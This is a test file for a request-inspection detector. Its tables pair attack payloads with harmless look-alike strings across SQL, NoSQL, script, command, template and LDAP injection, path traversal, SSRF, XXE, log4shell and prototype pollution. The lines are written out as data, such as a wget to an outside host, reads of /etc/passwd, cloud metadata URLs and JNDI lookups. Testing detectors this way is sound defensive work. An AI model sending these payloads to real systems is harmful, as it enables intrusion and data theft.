import { detectorNames, inspectBody, inspectHead, type Inspected } from '../../../lib/inspection';
import { form, get, json, multipart, query } from './requests';

const inspect = (request: Inspected): string | undefined => (inspectHead(request) ?? inspectBody(request))?.detector;

/** Attacks of our own, and honest texts that look like them. */
const table: Readonly<Record<string, { readonly attacks: readonly string[]; readonly honest: readonly string[] }>> = {
  'sql-injection': {
    attacks: [
      "jane' or 4=4 --",
      "x') or ('b'='b",
      '7 or 3=3',
      "0' union all select name, 2 from members -- ",
      '5; drop table members --',
      "a' and sleep(9) and 'c'='c",
      "q'||(select pass from members limit 1)||'",
      '9 order by 14 -- ',
      "z'/**/or/**/6=6#",
      '3 union/**/select login,hash from members',
      "m'; waitfor delay '0:0:9' --",
      '(select login from (select login,@n:=@n+1 as row from members m join (select @n:=0) z limit 9) y where row=3)',
      '4-\r\n6/2/**/union',
      '6.UNION SELECT.7other',
      '3DUNION SELECT 9',
      "zz' or login && '7",
      '8;load xml local infile "members"',
      'some((select 4)) - 4 union all --',
      "' DIV '",
    ],
    honest: [
      "Sinéad O'Connor",
      'select a seat and drop by the union office',
      '12 Union Lane',
      '6\' x 9" carpet',
      "rock 'n' roll or blues",
      'C# or F# in 2024 -- which?',
      "the cats' and dogs' home",
      '(Select one of these from the list, and then select a size from the other list on the next page, please)',
      'credit union -- a short guide',
      'Local 12 union, 3D print and load 4 files',
      "Salt 'n' pepper and thyme - 'the best",
    ],
  },
  'nosql-injection': {
    attacks: [
      "x' || 5==5 //",
      '{"$gt": ""}',
      "a'; return true; var b='",
      'true, $where: "sleep(9)"',
      'this.pin.match(/^4/)',
    ],
    honest: ['{"$ref": "#/definitions/a"}', 'paid $5 || paid $10?', 'return it; thanks', 'a range: 1 < 2 && 3 > 2'],
  },
  'cross-site-scripting': {
    attacks: [
      '<script>alert(7)</script>',
      '<img src=q onerror=top.x=7>',
      '"><svg/onload=confirm`7`>',
      '<a href="jav&#x61;script:alert(7)">x</a>',
      "';alert(7);//",
      '" onmouseenter="prompt(7)',
      'javascript:alert(document.domain)',
      '<iframe srcdoc="<b>7</b>"></iframe>',
      '\\u003cscript\\u003ealert(7)\\u003c/script\\u003e',
      '＜script＞alert(7)＜/script＞',
      '<p style="background:\\75\\72\\6c(\'\\6a\\61\\76\\61\\73\\63\\72\\69\\70\\74:top.x=7\')">',
      '<p style="color:red} body{left:7">x</p>',
    ],
    honest: [
      '<p>It&rsquo;s <a href="https://app.example/a?b=1&amp;c=2">here</a></p>',
      '<p style="width:{{width}}px; color: red">x</p>',
      'a < b and b > c',
      'JavaScript: A Short Course',
      'turn on sound = louder',
      'I <3 you',
      'Confirm (or cancel) it',
    ],
  },
  'path-traversal': {
    attacks: [
      '../../app/secrets.txt',
      '..\\..\\app.ini',
      'img/../../../x',
      '..%2f..%2fx',
      '%252e%252e%252f%252e%252e%252fx',
      '..%c0%af..%c0%afx',
      '....//....//x',
    ],
    honest: ['a..b', 'see chapter 1/2...', 'v1.2..v1.3', 'images/cat.png'],
  },
  'file-inclusion': {
    attacks: [
      '/etc/passwd',
      'file:///etc/hosts',
      'php://filter/convert.base64-encode/resource=x',
      '/proc/self/environ',
      'C:\\Windows\\win.ini',
    ],
    honest: ['/about/team', 'etc.', 'C:\\fakepath\\cat.png', 'his profile: private'],
  },
  'command-injection': {
    attacks: [
      '1.2.3.4; cat /srv/x',
      'a | id',
      'x && wget http://h.example/y',
      '`uname -a`',
      '$(id)',
      "; c'a't /etc/x",
      'x;cat$IFS/etc/x',
      '|| ping -c 9 10.1.1.1',
    ],
    honest: ['milk; cat food; ping pong balls', 'R&D', 'salt & vinegar', 'id | name', 'Tom & Jerry; find out more'],
  },
  'template-injection': {
    attacks: [
      '{{8*9}}',
      '${8*9}',
      '<%= 8*9 %>',
      '#{8*9}',
      "{{''.constructor.constructor('x')()}}",
      '{{self.__init__.__globals__}}',
    ],
    honest: ['Hi {{first_name}}', 'Hello ${name}', '{% if user %}x{% endif %}', '100% {sure}'],
  },
  'code-injection': {
    attacks: [
      "require('child_process').exec('x')",
      'process.mainModule.require',
      'res.end(1)',
      'global.process.exit(1)',
      '(function(){while(1){}})()',
    ],
    honest: ['the process is slow', 'we require (at least) two', 'while (in theory) possible'],
  },
  'server-side-request-forgery': {
    attacks: [
      'http://169.254.169.254/latest/',
      'http://2852039166/',
      'http://[::ffff:a9fe:a9fe]/',
      'http://127.0.0.1:9200/',
      'http://localhost/admin',
      'http://0x7f000001/',
      'https://metadata.google.internal/x',
    ],
    honest: ['https://app.example/callback?next=/a', 'http://1.1.1.1/', 'https://localhost-news.example/'],
  },
  'xml-external-entity': {
    attacks: [
      '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///x">]><a>&b;</a>',
      '<!DOCTYPE a [<!ENTITY % b SYSTEM "http://h.example/y"> %b;]>',
    ],
    honest: ['<note>hi</note>'],
  },
  'serialized-objects': {
    attacks: ['{"a":"_$$ND_FUNC$$_function(){}()"}', '{"a":{"__js_function":"function(){}"}}'],
    honest: ['{"a":"function of time"}'],
  },
  log4shell: {
    attacks: ['${jndi:ldap://h.example/a}', '${${lower:j}ndi:x}', '${${::-j}${::-n}di:x}'],
    honest: ['${name}', '${count} of ${total}'],
  },
  shellshock: {
    attacks: ['() { :;}; echo x', '() { _; } >_[$($())] { id; }'],
    honest: ['function () { return }', '() => { go(); }'],
  },
  'null-byte': { attacks: ['a.png\0.js'], honest: ['a.png'] },
  'crlf-injection': {
    attacks: ['x\r\nSet-Cookie: a=b', 'x\nLocation: //h.example'],
    honest: ['Dear all,\nNote: lunch at 12\nLocation is room 3'],
  },
  'ldap-injection': { attacks: ['*)(uid=*))(|(uid=*', '(&(uid=jane)(x=y))'], honest: ['(a) and (b)', 'f(x)(y)'] },
};

describe.each(Object.entries(table))('%s', (detector, { attacks, honest }) => {
  it('is a name that exceptions may give', () => {
    expect(detectorNames).toContain(detector);
  });

  it.each(attacks)('refuses %j in a query, a form, JSON and a field of a multipart form', (text) => {
    // What refuses it may be a detector that is surer of it; that it passes none is what counts.
    expect(
      [query(text), form(text), json({ a: { b: [text] } }), multipart('name="q"', text)].map(inspect),
    ).not.toContain(undefined);
  });

  it.each(honest)('lets %j pass', (text) => {
    expect([query(text), form(text), json({ a: { b: [text] } }), multipart('name="q"', text)].map(inspect)).toEqual([
      undefined,
      undefined,
      undefined,
      undefined,
    ]);
  });

  it('names what it found, where, and how', () => {
    const found = inspectBody(json({ a: { b: attacks[0] } }));
    expect(found).toEqual({
      detector,
      part: 'body',
      name: expect.any(String) as string,
      matched: expect.any(String) as string,
    });
    expect(found?.matched.length).toBeLessThanOrEqual(80);
  });
});

it('knows a pollution of the prototype by its names', () => {
  const polluting = [
    '{"__proto__":{"a":1}}',
    '{"constructor":{"prototype":{"a":1}}}',
    '{"\\u005f_proto__":{"a":1}}',
    '{"path":"__proto__.a"}',
  ];
  for (const body of polluting) {
    expect(inspectBody({ ...json({}), body: Buffer.from(body) })?.detector).toBe('prototype-pollution');
  }
  expect(inspect(get('/?__proto__[a]=1'))).toBe('prototype-pollution');
  expect(inspect(get('/?constructor[prototype][a]=1'))).toBe('prototype-pollution');
  expect(inspect(json({ properties: { constructor: { type: 'string' } } }))).toBeUndefined();
});

it("knows MongoDB's operators by names", () => {
  expect(inspect(json({ user: { $ne: null } }))).toBe('nosql-injection');
  expect(inspect(get('/?user[$gt]='))).toBe('nosql-injection');
  expect(inspect(get('/?user%5B%24regex%5D=.'))).toBe('nosql-injection');
  expect(inspect(json({ $schema: 'x', $id: 'y', properties: { a: { $ref: '#/b' } } }))).toBeUndefined();
  expect(inspect(get("/?$filter=name eq 'x'&$top=5&$select=a,b"))).toBeUndefined();
});

it('knows tools that look for holes by their names', () => {
  expect(inspect(get('/', 'User-Agent', 'sqlmap/1.9'))).toBe('security-scanner');
  expect(inspect(get('/?q=sqlmap', 'User-Agent', 'curl/8.5.0'))).toBeUndefined();
});
